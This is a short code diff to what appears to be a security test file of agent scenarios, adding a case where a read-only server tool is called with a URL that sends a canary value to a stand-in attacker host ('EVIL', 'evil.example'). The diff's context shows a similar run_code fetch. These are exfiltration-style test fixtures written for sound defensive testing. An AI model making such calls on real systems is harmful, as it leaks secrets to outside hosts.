@@ -8,6 +8,11 @@ export const ALLOWED: Scenario[] = [
     server: "ordered",
   }),
   onPage(
+    "a tool of a server that only reads, with a yes",
+    order("mcp_shop_page", { url: `${EVIL}{{CANARY}}` }),
+    { server: "a page" },
+  ),
+  onPage(
     "a program, with a yes",
     order("run_code", { code: `await ctx.fetch("${EVIL}{{CANARY}}")`, hosts: ["evil.example"] }),
   ),
